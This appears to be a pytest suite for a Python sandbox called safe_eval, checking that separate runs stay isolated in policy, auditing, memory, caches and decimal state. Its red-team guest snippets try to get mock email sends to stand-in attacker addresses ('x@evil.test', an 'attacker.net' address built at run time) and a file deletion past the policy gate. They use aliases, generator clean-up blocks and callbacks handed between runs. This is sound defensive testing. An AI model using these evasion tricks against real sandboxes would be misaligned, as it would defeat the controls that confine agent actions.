"""Runs are isolated from each other and leave nothing behind (issue 16, items 8-11).

Each test is written as the attacker (or the careless host) wrote it, through the public API.
"""

from __future__ import annotations

import ctypes
import gc
import sys
import threading
import time
import warnings
from collections.abc import Iterator
from typing import Any

import greenlet
import pytest

import safe_eval
from safe_eval import Evaluator, Limits
from safe_eval.errors import MemoryLimit, PolicyError, PolicyViolation, SafeEvalError, TimeLimit
from safe_eval.policy import parse_policy
from safe_eval.policy.enforce import ToolEvent

# request A may fetch but never delete; request B may do both
POLICY_A = parse_policy("policy a\nallow fetch(*)\ndeny delete_file(*)\n")
POLICY_B = parse_policy("policy b\nextends default\nallow fetch(*)\nallow delete_file(*)\n")
# the call goes through an alias, so the static check cannot see it: the gate decides at run time
REQUEST_A = "fetch('a')\ntools = [delete_file]\ntools[0]('/srv/important')\n'a done'"
REQUEST_B = "fetch('b')\n'b done'"


# -- item 9: a context per run, not per thread --------------------------------------------
class Server:
    """Interleaves requests on one thread as gevent does: a tool waiting on I/O parks the
    greenlet it runs on and switches to the hub, which runs another request meanwhile."""

    def __init__(self) -> None:
        self.hub = greenlet.getcurrent()
        self.parked: list[greenlet.greenlet] = []
        self.outcome: dict[str, Any] = {}

    def wait_for_io(self) -> None:
        self.parked.append(greenlet.getcurrent())
        self.hub.switch()

    def start(self, name: str, code: str, env: dict[str, Any], policy: Any) -> None:
        def serve() -> None:
            try:
                self.outcome[name] = safe_eval.safe_eval(code, env, policy=policy)
            except SafeEvalError as e:
                self.outcome[name] = e
        greenlet.greenlet(serve).switch()

    def resume_first(self) -> None:
        self.parked.pop(0).switch()


def test_a_greenlet_server_interleaving_two_requests_decides_each_by_its_own_policy() -> None:
    server = Server()
    deleted: list[str] = []

    def fetch(url: str) -> str:
        server.wait_for_io()
        return "page"

    def delete_file(path: str) -> None:
        deleted.append(path)

    env = {"fetch": fetch, "delete_file": delete_file}
    server.start("a", REQUEST_A, dict(env), POLICY_A)  # A waits in fetch
    server.start("b", REQUEST_B, dict(env), POLICY_B)  # B waits in fetch: both runs in progress
    server.resume_first()  # A resumes and tries to delete
    server.resume_first()
    assert deleted == []
    a = server.outcome["a"]
    assert isinstance(a, PolicyViolation)
    assert [(d.code, d.stage) for d in a.diagnostics] == [("T003", "runtime")]
    assert server.outcome["b"] == "b done"


ASYNC_A = ("import asyncio\nasync def main():\n    await asyncio.sleep(0)\n    fetch('a')\n"
           "    return 'a done'\nasyncio.run(main())")
ASYNC_B = ("import asyncio\nasync def main():\n    fetch('b')\n    await asyncio.sleep(0)\n"
           "    return 'b done'\nasyncio.run(main())")


def test_interleaved_requests_each_running_a_guest_event_loop_see_only_their_own() -> None:
    server = Server()

    def fetch(url: str) -> str:
        server.wait_for_io()
        return "page"

    server.start("a", ASYNC_A, {"fetch": fetch}, POLICY_B)  # A's loop runs, A waits in fetch
    server.start("b", ASYNC_B, {"fetch": fetch}, POLICY_B)  # B runs a loop of its own meanwhile
    server.resume_first()
    server.resume_first()
    assert server.outcome == {"a": "a done", "b": "b done"}


# -- item 8: every tool call is decided and audited inside a run ----------------------------
MAILER = parse_policy("policy mailer\nallow send_email(*)\n")
SPAMMER = """
def note():
    try:
        yield 1
    finally:
        send_email('boss@example.com')
send_email('boss@example.com')
gens = []
for _ in range(10):
    g = note()
    next(g)
    gens.append(g)
"""


class QuotaExceeded(Exception):
    pass


def _mailbox() -> tuple[list[str], Any]:
    sent: list[str] = []

    def send_email(to: str) -> None:
        sent.append(to)
    return sent, send_email


def _quota_of_one() -> Any:
    seen: list[ToolEvent] = []

    def audit(event: ToolEvent) -> None:
        seen.append(event)
        if event.name == "send_email" and len(seen) > 1:
            raise QuotaExceeded("one email per run")
    return audit


@pytest.mark.parametrize("drop", [
    pytest.param("gens = None", id="dropped-inside-the-run"),
    pytest.param("", id="returned-then-dropped-by-the-host"),
])
def test_an_audit_enforced_quota_of_one_email_lets_exactly_one_through(drop: str) -> None:
    sent, send_email = _mailbox()
    ev = Evaluator(MAILER, audit=_quota_of_one())
    ns = ev.exec(SPAMMER + drop, {"send_email": send_email})
    del ns
    gc.collect()
    assert sent == ["boss@example.com"]


# the host's next step may itself be a run whose policy allows mail: the mail it sends must be
# its own, never the leftover generator's
@pytest.mark.parametrize("next_step", [
    pytest.param(lambda env: safe_eval.safe_eval("g = None", env, policy=MAILER), id="next-run-rebinds-it"),
    pytest.param(lambda env: safe_eval.safe_eval("del g", env, policy=MAILER), id="next-run-deletes-it"),
    pytest.param(lambda env: env.clear(), id="host-clears-env"),
])
def test_a_generator_left_in_env_sends_no_mail_at_the_hosts_next_step(next_step: Any) -> None:
    sent, send_email = _mailbox()
    env: dict[str, Any] = {"send_email": send_email}
    safe_eval.safe_eval(
        "def note():\n    try:\n        yield 1\n    finally:\n        send_email('x@evil.test')\n"
        "g = note()\nnext(g)\n", env, policy=MAILER)
    assert sent == []
    next_step(env)
    gc.collect()
    assert sent == []


LEAVE_A_GENERATOR = "def note():\n    try:\n        yield 1\n    finally:\n        send_email('x@evil.test')\n"


@pytest.mark.parametrize(("leave", "drop"), [
    pytest.param("def make():\n    g = note()\n    next(g)\n    return g\nmake()", lambda kept: kept.clear(),
                 id="result-released-by-a-host-tool"),
    pytest.param("g = note()\nnext(g)\ncycle = [g]\ncycle.append(cycle)\ndel g, cycle\n",
                 lambda kept: gc.collect(), id="cycle-collected-by-host-work"),
])
def test_a_leftover_generator_sends_no_mail_when_it_dies_during_the_next_run(leave: str, drop: Any) -> None:
    sent, send_email = _mailbox()
    kept = [safe_eval.safe_eval(LEAVE_A_GENERATOR + leave, {"send_email": send_email}, policy=MAILER)]
    assert sent == []

    def busy() -> None:  # host work during the next run, whose policy allows mail
        drop(kept)

    safe_eval.safe_eval("busy()\nsend_email('mine@example.com')", {"busy": busy, "send_email": send_email},
                        policy=parse_policy("policy next\nallow busy(*)\nallow send_email(*)\n"))
    assert sent == ["mine@example.com"]


@pytest.mark.timeout(120)
def test_suspended_generators_the_host_drops_after_the_run_leave_nothing_behind() -> None:
    # each suspended body holds 40 MB (above glibc's largest mmap threshold: freed at once)
    code = ("def hold():\n    big = [0] * 5_000_000\n    yield len(big)\n"
            "def make():\n    out = []\n    for _ in range(8):\n        g = hold()\n        next(g)\n"
            "        out.append(g)\n    return out\nmake()")
    gc.collect()
    before = _rss()
    gens = safe_eval.safe_eval(code, limits={"memory": 2**30})
    assert len(gens) == 8
    del gens
    gc.collect()
    assert _rss() - before < 60 * 2**20


def test_a_host_close_of_a_returned_generator_is_decided_and_audited_by_its_run() -> None:
    sent, send_email = _mailbox()
    events: list[ToolEvent] = []
    ev = Evaluator(MAILER, audit=events.append)
    gen = ev.eval("def note():\n    try:\n        yield 1\n    finally:\n        send_email('a@x')\n"
                  "g = note()\nnext(g)\ng", {"send_email": send_email})
    gen.close()
    assert sent == ["a@x"]
    assert [e.name for e in events] == ["send_email"]


# -- item 10: nothing outlives a run unless the host keeps it ------------------------------
BIG = "x = [0] * 25_000_000\n"  # 200 MB of pointers


def _rss() -> int:
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * 4096


@pytest.mark.timeout(120)
@pytest.mark.parametrize("extra", [
    pytest.param("", id="data-only"),
    pytest.param("def size():\n    return len(x)\n", id="with-a-function-in-env"),
])
def test_ten_200mb_runs_through_the_shared_module_level_evaluator_leave_nothing_resident(extra: str) -> None:
    gc.collect()
    before = _rss()
    for _ in range(10):
        env: dict[str, Any] = {}
        # memory is under test: a time limit a traced or loaded run cannot reach
        safe_eval.safe_eval(BIG + extra + "len(x)", env, limits={"memory": 400 * 2**20, "time": 10})
        del env
    gc.collect()
    assert _rss() - before < 100 * 2**20


@pytest.mark.timeout(120)
def test_guest_exec_of_many_distinct_strings_is_not_kept_by_any_cache() -> None:
    # 100 distinct 2,000-node modules: small enough for a cache to keep, 1.3 MB each compiled
    # (130 MB kept if any cache held them)
    ev = Evaluator(limits={"memory": 2**30, "time": 100, "ops": 10**9})
    code = "for i in range(100):\n    exec('x = [%d' % i + ',1' * 1_990 + ']')\n"
    gc.collect()
    before = _rss()
    ev.exec(code)
    gc.collect()
    assert _rss() - before < 40 * 2**20


@pytest.mark.timeout(120)
def test_the_program_caches_are_bounded_in_bytes_not_only_in_entries() -> None:
    # eight distinct 45,000-node programs: about 30 MB each once compiled (240 MB kept under an
    # entry bound alone)
    ev = Evaluator()
    gc.collect()
    before = _rss()
    for i in range(8):
        assert ev.eval(f"x = [{i}" + ",1" * 44_990 + "]\nlen(x)") == 44_991
    gc.collect()
    assert _rss() - before < 100 * 2**20


@pytest.mark.timeout(300)
def test_the_program_caches_weigh_the_literals_a_program_carries() -> None:
    # a program is a handful of nodes around a 99,000-character literal (4 bytes a character):
    # the caches (64 MB for the pipeline, 16 MB for the Evaluator) must count its bytes
    # (RSS-based: the heap earlier tests freed is handed back first, and what the programs'
    # construction freed is handed back before the second reading: only what is kept counts)
    ev = Evaluator()
    _trim_heap()
    before = _rss()
    for k in range(256):
        assert ev.eval(f"DATA = '{k:06d}" + "\U0001F600" * 99_000 + "'\nlen(DATA)") == 99_006
    _trim_heap()
    assert _rss() - before < (64 + 16 + 20) * 2**20


@pytest.mark.timeout(120)
def test_a_series_of_runs_that_hit_their_memory_limit_leaves_the_process_where_it_found_it() -> None:
    ev = Evaluator(limits={"memory": 150 * 2**20})
    _trim_heap()  # only what the runs keep counts, not the heap earlier tests left fragmented
    before = _rss()
    for i in range(8):
        with pytest.raises(MemoryLimit):
            ev.exec(f"keep = []\nwhile True:\n    keep.append([{i}] * 1_000_000)\n", {})
    _trim_heap()
    assert _rss() - before < 60 * 2**20


# -- item 11: memory counted per run ------------------------------------------------------
@pytest.mark.timeout(120)
def test_two_concurrent_runs_each_under_their_limit_both_finish() -> None:
    results: list[Any] = []
    ready, allocated = threading.Barrier(2), threading.Barrier(2)
    # 80 MB each, built step by step (the growth a per-chunk sample sees), under 120 MB each; the
    # runs then go on side by side: measured per process (160 MB) one of them would be stopped
    code = ("a = []\nfor i in range(100):\n    a.append([0] * 100_000)\n    for _ in range(300):\n        pass\n"
            "meet()\nfor i in range(100_000):\n    pass\nsum(len(x) for x in a)")

    def run() -> None:
        ready.wait()
        try:
            env = {"meet": lambda: allocated.wait(30) and None}
            results.append(safe_eval.safe_eval(code, env, policy=parse_policy(
                "policy p\nallow meet(*)\n"), limits=Limits(memory=120 * 2**20, time=60, ops=10**8)))
        except SafeEvalError as e:
            results.append(e)
            allocated.abort()

    threads = [threading.Thread(target=run) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results == [10_000_000, 10_000_000]


@pytest.fixture
def frequent_thread_switches() -> Iterator[None]:
    # a switch every 20 us instead of 5 ms: the interleavings a loaded machine produces now and
    # then happen on every run
    before = sys.getswitchinterval()
    sys.setswitchinterval(2e-5)
    try:
        yield
    finally:
        sys.setswitchinterval(before)


@pytest.mark.timeout(120)
@pytest.mark.usefixtures("frequent_thread_switches")
def test_two_concurrent_runs_building_memory_step_by_step_are_each_charged_their_own() -> None:
    results: list[Any] = []
    ready = threading.Barrier(2)
    code = "a = []\nfor i in range(100):\n    a.append([0] * 100_000)\nsum(len(x) for x in a)"

    def run() -> None:
        ready.wait()
        try:
            results.append(safe_eval.safe_eval(code, limits=Limits(memory=100 * 2**20, time=60)))
        except SafeEvalError as e:
            results.append(e)

    threads = [threading.Thread(target=run) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results == [10_000_000, 10_000_000]


@pytest.mark.timeout(120)
@pytest.mark.usefixtures("frequent_thread_switches")
def test_a_run_that_allocates_and_frees_around_thread_switches_cannot_charge_its_memory_to_another() -> None:
    outcome: dict[str, Any] = {}
    ready = threading.Barrier(2)

    def run(name: str, code: str, memory: int) -> None:
        ready.wait()
        try:
            outcome[name] = safe_eval.safe_eval(code, limits=Limits(memory=memory, time=60, ops=10**9))
        except SafeEvalError as e:
            outcome[name] = e

    # 80 MB held and dropped again and again: whoever samples while it is held sees it grow
    pusher = "n = 0\nfor i in range(60):\n    x = [0] * 10_000_000\n    n += len(x)\n    del x\nn"
    victim = "a = []\nfor i in range(200_000):\n    if i % 4000 == 0:\n        a.append([0] * 10_000)\nlen(a)"
    threads = [threading.Thread(target=run, args=("pusher", pusher, 2**30)),
               threading.Thread(target=run, args=("victim", victim, 60 * 2**20))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert outcome == {"pusher": 600_000_000, "victim": 50}


@pytest.mark.timeout(120)
def test_what_a_finished_run_announced_never_pays_for_a_later_runs_growth() -> None:
    # the first run's 80 MB come and go; the second builds 160 MB from pieces too small to be
    # announced and must meet its 60 MB limit all the same (RSS-based: the heap earlier tests
    # freed is handed back first, or the second run would grow into it unseen)
    _trim_heap()
    ev = Evaluator(limits={"memory": 2**30, "time": 60, "ops": 10**9})
    assert ev.eval("x = [0] * 10_000_000\nn = len(x)\ndel x\nn") == 10_000_000
    with pytest.raises(MemoryLimit):
        ev.eval("a = []\nfor i in range(20_000):\n    a.append([i] * 1_000)\nlen(a)",
                limits={"memory": 60 * 2**20})


def _trim_heap() -> None:
    gc.collect()
    try:
        ctypes.CDLL("libc.so.6").malloc_trim(0)
    except (OSError, AttributeError):  # not glibc: nothing kept to hand back
        pass


@pytest.mark.timeout(120)
def test_a_run_over_its_limit_still_stops_while_another_run_is_in_progress() -> None:
    outcome: dict[str, Any] = {}
    ready = threading.Barrier(2)

    def run(name: str, code: str) -> None:
        ready.wait()
        try:
            outcome[name] = safe_eval.safe_eval(code, limits=Limits(memory=120 * 2**20, time=60))
        except SafeEvalError as e:
            outcome[name] = e

    small = "a = [0] * 5_000_000\nfor i in range(200_000):\n    pass\nlen(a)"
    big = "keep = []\nwhile True:\n    keep.append([1] * 1_000_000)\n"
    threads = [threading.Thread(target=run, args=("small", small)),
               threading.Thread(target=run, args=("big", big))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert outcome["small"] == 5_000_000
    assert isinstance(outcome["big"], MemoryLimit)


# -- items 8-11 (red team, second round): a run's code runs only under its own run ----------
# the address is built at run time, so the static check cannot see it: the gate decides
SEND = "send_email(to='boss' + chr(64) + 'attacker.net', subject='hi', body='x')"
# run A may mail anyone (its audit would see it): only the isolation stops the mail below
MAIL_ANYONE = parse_policy("policy a\nallow send_email(*)\n")


def _indent(text: str) -> str:
    return "\n".join("    " + line for line in text.splitlines())


# each leaves a body suspended inside one unwinding construct whose clean-up sends the mail
SUSPENDED_IN = {
    "try-finally": f"def g():\n    try:\n        yield 1\n    finally:\n        {SEND}\n"
                   "def make():\n    it = g()\n    next(it)\n    return it\n",
    "try-except-star-finally": f"def g():\n    try:\n        yield 1\n    except* ValueError:\n        pass\n"
                               f"    finally:\n        {SEND}\n"
                               "def make():\n    it = g()\n    next(it)\n    return it\n",
    "with-exit": f"class CM:\n    def __enter__(self):\n        return self\n"
                 f"    def __exit__(self, *a):\n        {SEND}\n"
                 "def g():\n    with CM():\n        yield 1\n"
                 "def make():\n    it = g()\n    next(it)\n    return it\n",
    "finally-calls-a-function": f"def later():\n    {SEND}\n"
                                "def g():\n    try:\n        yield 1\n    finally:\n        later()\n"
                                "def make():\n    it = g()\n    next(it)\n    return it\n",
    "async-for-over-an-async-generator": "class W:\n    def __await__(self):\n        yield 'req'\n"
                                         f"async def ag():\n    try:\n        await W()\n        yield 1\n"
                                         f"    finally:\n        {SEND}\n"
                                         "async def c():\n    async for x in ag():\n        pass\n"
                                         "def make():\n    co = c()\n    co.send(None)\n    return co\n",
    "async-with-aexit": "class W:\n    def __await__(self):\n        yield 'req'\n"
                        "class ACM:\n    async def __aenter__(self):\n        return self\n"
                        f"    async def __aexit__(self, *a):\n        {SEND}\n"
                        "async def c():\n    async with ACM():\n        await W()\n"
                        "def make():\n    co = c()\n    co.send(None)\n    return co\n",
}


_NEEDS_311 = {"try-except-star-finally"}
_EXCEPT_STAR = pytest.mark.skipif(sys.version_info < (3, 11), reason="except* is new in Python 3.11")


@pytest.mark.parametrize("code", [
    pytest.param(c, id=k, marks=[_EXCEPT_STAR] if k in _NEEDS_311 else []) for k, c in SUSPENDED_IN.items()])
def test_a_suspended_body_returned_by_one_run_sends_nothing_when_dropped_inside_another(code: str) -> None:
    sent, audit_a, audit_b = [], [], []  # type: list[str], list[ToolEvent], list[ToolEvent]

    def send_email(to: str, subject: str, body: str) -> str:
        sent.append(to)
        return "ok"
    a = Evaluator(MAIL_ANYONE, audit=audit_a.append)
    # B's tool collects the whole test process's heap: a time limit a loaded machine cannot hit
    b = Evaluator(limits=Limits(time=60), audit=audit_b.append)
    kept = [a.eval(code + "make()", {"send_email": send_email})]

    def forget() -> int:  # run B's tool: the host drops A's old result meanwhile
        kept.clear()
        gc.collect()
        return 0
    assert b.eval("forget()", {"forget": forget, "send_email": send_email}) == 0
    assert (sent, [e.name for e in audit_a], [e.name for e in audit_b]) == ([], [], ["forget"])


# the unwinding clause of the body: ``except*`` where the running Python has it
HANDLER = "except*" if sys.version_info >= (3, 11) else "except"


def test_a_function_defined_while_a_dropped_body_unwinds_never_exists() -> None:
    sent, send_email = _mailbox()
    res = Evaluator("agent").eval(
        f"box = []\ndef g():\n    try:\n        yield 1\n    {HANDLER} ValueError:\n        pass\n"
        f"    finally:\n        def later():\n            return {SEND}\n        box.append(later)\n"
        "def h():\n    it = g()\n    next(it)\n    return [it, box]\nh()", {"send_email": send_email})
    res[0] = None  # the host drops the suspended generator (no run active)
    gc.collect()
    assert (res[1], sent) == ([], [])


# what run A hands the host for later: a callback, or a generator the host steps
HANDLERS = {
    "callback": (f"def on_event(evt):\n    return {SEND}\non_event", lambda h: h("hello")),
    "generator": (f"def steps():\n    yield 1\n    yield {SEND}\ndef make():\n    it = steps()\n"
                  "    next(it)\n    return it\nmake()", next),
}


@pytest.mark.parametrize(("code", "use"), [pytest.param(*v, id=k) for k, v in HANDLERS.items()])
def test_a_runs_callback_invoked_by_another_runs_tool_is_decided_by_its_own_policy(code: str, use: Any) -> None:
    sent, audit_a, audit_b = [], [], []  # type: list[str], list[ToolEvent], list[ToolEvent]

    def send_email(to: str, subject: str, body: str) -> str:
        sent.append(to)
        return "ok"
    a = Evaluator("agent", audit=audit_a.append)  # mail only to @example.com
    b = Evaluator(audit=audit_b.append)  # the default policy grants every env tool
    handler = a.eval(code, {"send_email": send_email})

    def publish() -> Any:  # run B's tool dispatches the event to run A's subscriber
        return use(handler)
    with pytest.raises(PolicyViolation, match="send_email"):
        b.eval("publish()", {"publish": publish, "send_email": send_email})
    assert (sent, [e.name for e in audit_a], [e.name for e in audit_b]) == ([], ["send_email"], ["publish"])


def test_a_runs_callback_invoked_by_another_runs_tool_is_audited_by_its_own_hook() -> None:
    sent, audit_a, audit_b = [], [], []  # type: list[str], list[ToolEvent], list[ToolEvent]

    def send_email(to: str, subject: str, body: str) -> str:
        sent.append(to)
        return "ok"
    handler = Evaluator("agent", audit=audit_a.append).eval(
        "def on_event(evt):\n    return send_email(to='ops@example.com', subject='x', body=evt)\non_event",
        {"send_email": send_email})
    b = Evaluator(audit=audit_b.append)
    assert b.eval("publish('hello')", {"publish": handler.__call__}) == "ok"
    assert (sent, [e.name for e in audit_a], [e.name for e in audit_b]) == (
        ["ops@example.com"], ["send_email"], ["publish"])


DIVIDE_BY_ZERO = ("if secret:\n    try:\n        one / zero\n    except Exception:\n        pass\n0")


@pytest.mark.parametrize("env", [
    pytest.param("import decimal\none, zero = decimal.Decimal(1), decimal.Decimal(0)\n", id="guest-made-decimals"),
    pytest.param("", id="host-given-decimals"),
])
def test_a_runs_decimal_flags_are_seen_by_neither_the_host_nor_the_next_run(env: str) -> None:
    import decimal

    decimal.getcontext().clear_flags()
    host = {"secret": 1, "one": decimal.Decimal(1), "zero": decimal.Decimal(0)}
    assert safe_eval.safe_eval(env + DIVIDE_BY_ZERO, host) == 0
    seen = safe_eval.safe_eval("import decimal\nc = decimal.getcontext()\n[c.prec, repr(c).split('flags=')[1]]")
    assert (seen, decimal.getcontext().flags[decimal.DivisionByZero]) == (
        [28, "[], traps=[InvalidOperation, DivisionByZero, Overflow])"], False)


# A tool's own Decimal arithmetic, and a run a tool starts, never run on the calling guest's
# decimal context: ``localcontext(prec=2)`` around the call priced 3 x 19.99 at 60
DECIMAL_POLICY = "policy p\nimports decimal\nallow price(*)\nallow evaluate(*)\nallow seen(*)\n"


def _price(qty: int) -> str:
    import decimal

    return str(decimal.Decimal("19.99") * qty)  # the host's own arithmetic


def _evaluate(code: str) -> Any:  # a tool that runs code of its own (another run)
    return safe_eval.safe_eval(code, {}, policy=parse_policy("policy q\nimports decimal\n"))


@pytest.mark.parametrize("call", [
    pytest.param("price(3)", id="the-tools-own-arithmetic"),
    pytest.param("evaluate('import decimal\\nstr(decimal.Decimal(\"19.99\") * 3)')", id="a-run-the-tool-starts"),
])
def test_a_tool_never_computes_on_the_calling_guests_decimal_context(call: str) -> None:
    code = f"import decimal\nwith decimal.localcontext(prec=2):\n    r = {call}\nr"
    env = {"price": _price, "evaluate": _evaluate}
    assert safe_eval.safe_eval(code, env, policy=parse_policy(DECIMAL_POLICY)) == "59.97"


def test_a_run_a_tool_starts_leaves_its_decimal_flags_to_neither_its_caller_nor_the_host() -> None:
    import decimal

    decimal.getcontext().clear_flags()
    flags: list[Any] = []
    flagged = "'DivisionByZero' in repr(decimal.getcontext()).split('flags=')[1].split(']')[0]"
    inner = ("import decimal\ntry:\n    decimal.Decimal(1) / decimal.Decimal(0)\nexcept Exception:\n    pass\n"
             + flagged)

    def seen() -> None:  # what the host's code sees while the guest's tool call is in progress
        flags.append(decimal.getcontext().flags[decimal.DivisionByZero])

    code = f"import decimal\ninner = evaluate({inner!r})\nseen()\n[inner, {flagged}]"
    result = safe_eval.safe_eval(code, {"evaluate": _evaluate, "seen": seen}, policy=parse_policy(DECIMAL_POLICY))
    assert (result, flags, decimal.getcontext().flags[decimal.DivisionByZero]) == ([True, False], [False], False)


def test_guest_code_a_tool_calls_back_computes_on_its_runs_decimal_context_and_leaves_the_hosts_alone() -> None:
    import decimal

    decimal.getcontext().clear_flags()
    seen: list[Any] = []

    def apply(f: Any) -> Any:  # the host's tool: its own arithmetic around the guest's callback
        before = str(decimal.Decimal("19.99") * 3)
        result = f()
        seen.append((before, str(decimal.Decimal("19.99") * 3), decimal.getcontext().flags[decimal.DivisionByZero]))
        return result

    code = ("import decimal\ndef f():\n    try:\n        decimal.Decimal(1) / decimal.Decimal(0)\n"
            "    except Exception:\n        pass\n    return str(decimal.Decimal('19.99') * 3)\n"
            "with decimal.localcontext(prec=2):\n    r = apply(f)\nr")
    result = safe_eval.safe_eval(code, {"apply": apply}, policy=parse_policy(
        "policy p\nimports decimal\nallow apply(*)\n"))
    # the callback computes as the guest's own code would (precision 2), the tool as the host's
    assert (result, seen, decimal.getcontext().flags[decimal.DivisionByZero]) == (
        "60", [("59.97", "59.97", False)], False)


# -- red team, third round: what a run leaves in host caches, whom the watchdog hits ---------
# a guest class ``C`` put into one typing form each: typing memoises every subscription in a
# process-wide lru_cache (``typing._tp_cache``) that would keep ``C``, its methods and through
# their globals the run's whole namespace
TYPING_FORMS = {
    "List[C]": "x = typing.List[C]",
    "Optional[List[C]]": "x = typing.Optional[typing.List[C]]",
    "List[C] | None": "x = typing.List[C] | None",
    "None | List[C]": "x = None | typing.List[C]",
    "Callable[[C], int]": "x = typing.Callable[[C], int]",
    "Dict[str, C]": "x = typing.Dict[str, C]",
    "TypeVar-bound-then-List[T]": "T = typing.TypeVar('T', bound=C)\nx = typing.List[T]",
}


@pytest.mark.parametrize("form", [pytest.param(v, id=k) for k, v in TYPING_FORMS.items()])
def test_a_guest_class_used_in_a_typing_form_dies_with_its_run(form: str) -> None:
    import weakref

    ns = safe_eval.safe_exec("import typing\nclass C:\n    def m(self):\n        return 1\n" + form)
    cls = weakref.ref(ns["C"])
    del ns
    gc.collect()
    assert cls() is None


def test_the_hosts_own_typing_forms_still_work_after_a_run_built_some() -> None:
    import typing

    safe_eval.safe_exec("import typing\nclass C:\n    pass\nx = typing.List[C]")
    assert typing.get_args(typing.Dict[str, int]) == (str, int)


# A gevent-style server: run A's tool waits on I/O and parks A's greenlet; the hub then runs
# host code of another request (no safe-eval run) or another run, past A's deadline
def _parked_overdue_run(hub: Any) -> greenlet.greenlet:
    def io_tool() -> int:
        hub.switch("waiting for io")
        return 1

    def request_a() -> Any:
        try:
            return safe_eval.safe_eval("io_tool()", {"io_tool": io_tool}, limits={"time": 0.1})
        except SafeEvalError as e:
            return e
    ga = greenlet.greenlet(request_a)
    assert ga.switch() == "waiting for io"
    return ga


def _spin_host_code(seconds: float) -> None:
    import time

    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass


def test_the_watchdog_of_a_parked_overdue_run_never_hits_the_hosts_code_on_its_thread() -> None:
    from safe_eval.errors import TimeLimit

    ga = _parked_overdue_run(greenlet.getcurrent())
    _spin_host_code(0.6)  # several watchdog periods past A's deadline: nothing may be raised here
    outcome = ga.switch()
    assert isinstance(outcome, TimeLimit)  # A itself stops, at its first checkpoint once back


def test_the_watchdog_of_a_parked_overdue_run_never_hits_another_run_on_its_thread() -> None:
    ga = _parked_overdue_run(greenlet.getcurrent())

    def host_work() -> int:  # curated-code-like host work run B asks for, on B's CPU time
        _spin_host_code(0.6)
        return 7
    b = safe_eval.safe_eval("[work() for _ in range(1)][0] * 6", {"work": host_work},
                            limits={"time": 30})
    assert b == 42
    ga.switch()


def test_a_second_host_call_into_a_runs_results_while_one_is_parked_is_refused_with_a_typed_error() -> None:
    from safe_eval import ConcurrentCall

    hub = greenlet.getcurrent()

    def io_tool() -> int:
        hub.switch("parked")
        return 1
    ns = Evaluator().exec("def slow():\n    return io_tool()\ndef quick():\n    return 2\n",
                          {"io_tool": io_tool})
    first = greenlet.greenlet(ns["slow"])
    assert first.switch() == "parked"  # a host call into the run's results is under way
    with pytest.raises(ConcurrentCall, match="another host call into this run's results is under way"):
        ns["quick"]()
    assert first.switch() == 1  # the first call finishes; the next one is served again
    assert ns["quick"]() == 2


# run A (the agent policy: mail only to @example.com) hands the host a function; the host puts
# it into run B (the default policy, which grants every env tool) and B's code calls it directly
A_HANDLER = f"def on_event(evt):\n    return {SEND}\non_event"
DIRECT_CALLS = {
    "by-its-env-name": ("on_event('hello')", lambda h: {"on_event": h}),
    "from-a-list-in-env": ("[h('hello') for h in handlers]", lambda h: {"handlers": [h]}),
    "as-a-sort-key": ("sorted(['a'], key=on_event)", lambda h: {"on_event": h}),
    "bound-to-a-name-first": ("f = on_event\nf('hello')", lambda h: {"on_event": h}),
}


@pytest.mark.parametrize(("code", "env"), [pytest.param(*v, id=k) for k, v in DIRECT_CALLS.items()])
def test_a_runs_function_called_directly_by_another_runs_code_is_decided_by_its_own_policy(
        code: str, env: Any) -> None:
    sent, audit_a, audit_b = [], [], []  # type: list[str], list[ToolEvent], list[ToolEvent]

    def send_email(to: str, subject: str, body: str) -> str:
        sent.append(to)
        return "ok"
    handler = Evaluator("agent", audit=audit_a.append).eval(A_HANDLER, {"send_email": send_email})
    b = Evaluator(audit=audit_b.append)
    with pytest.raises(PolicyViolation, match="send_email"):
        b.eval(code, {**env(handler), "send_email": send_email})
    assert (sent, [e.name for e in audit_a]) == ([], ["send_email"])


A_OBJECTS = {
    "an-instance": ("class Handler:\n    def on_event(self, evt):\n        return " + SEND + "\nHandler()",
                    "h.on_event('hello')"),
    "a-class": ("class Handler:\n    def on_event(self, evt):\n        return " + SEND + "\nHandler",
                "h().on_event('hello')"),
}


@pytest.mark.parametrize(("made", "use"), [pytest.param(*v, id=k) for k, v in A_OBJECTS.items()])
def test_a_runs_object_put_into_another_runs_env_is_refused_there(made: str, use: str) -> None:
    sent, send_email = _mailbox_of_three()
    obj = Evaluator("agent").eval(made, {"send_email": send_email})
    with pytest.raises(PolicyViolation, match="made by another run, under another policy"):
        Evaluator().eval(use, {"h": obj, "send_email": send_email})
    assert sent == []


def test_a_runs_function_passed_by_the_host_as_an_argument_to_another_runs_function_obeys_its_own_policy() -> None:
    sent, send_email = _mailbox_of_three()
    handler = Evaluator("agent").eval(A_HANDLER, {"send_email": send_email})
    use = Evaluator().eval("def use(h):\n    return h('hello')\nuse", {"send_email": send_email})
    with pytest.raises(PolicyViolation, match="send_email"):
        use(handler)
    assert sent == []


def test_a_runs_function_called_directly_by_a_run_of_the_same_evaluator_stays_a_plain_guest_function() -> None:
    ev = Evaluator()
    f = ev.eval("def double(x):\n    return 2 * x\ndouble")
    assert ev.eval("[double(21), type(double).__name__]", {"double": f}) == [42, "Function"]


def _mailbox_of_three() -> tuple[list[str], Any]:
    sent: list[str] = []

    def send_email(to: str, subject: str, body: str) -> str:
        sent.append(to)
        return "ok"
    return sent, send_email


# what guest code does with its own classes: none of it may leave the class in a host cache
CLASS_USES = {
    "instance-attribute-and-method": "c = C()\nc.m()\nc.x = 1\nc.x",
    "super-call": "class D(C):\n    def m(self):\n        return super().m()\nD().m()",
    "copy-and-deepcopy": "import copy\ncopy.copy(C())\ncopy.deepcopy(C())",
    "dataclass-helpers": "import dataclasses\nP = dataclasses.dataclass(C)\ndataclasses.replace(P())",
    "vars-and-type": "c = C()\nvars(c)\ntype(c).__name__",
    "isinstance-and-repr": "c = C()\nisinstance(c, C)\nrepr(c)\nc == c\nhash(c)",
}


@pytest.mark.parametrize("use", [pytest.param(v, id=k) for k, v in CLASS_USES.items()])
def test_a_guest_class_dies_with_its_run_whatever_the_guest_did_with_it(use: str) -> None:
    import weakref

    ns = safe_eval.safe_exec("class C:\n    def m(self):\n        return 1\n" + use)
    cls = weakref.ref(ns["C"])
    del ns
    gc.collect()
    assert cls() is None


# a suspended generator in a cycle with what its body refers to; the host then drops everything
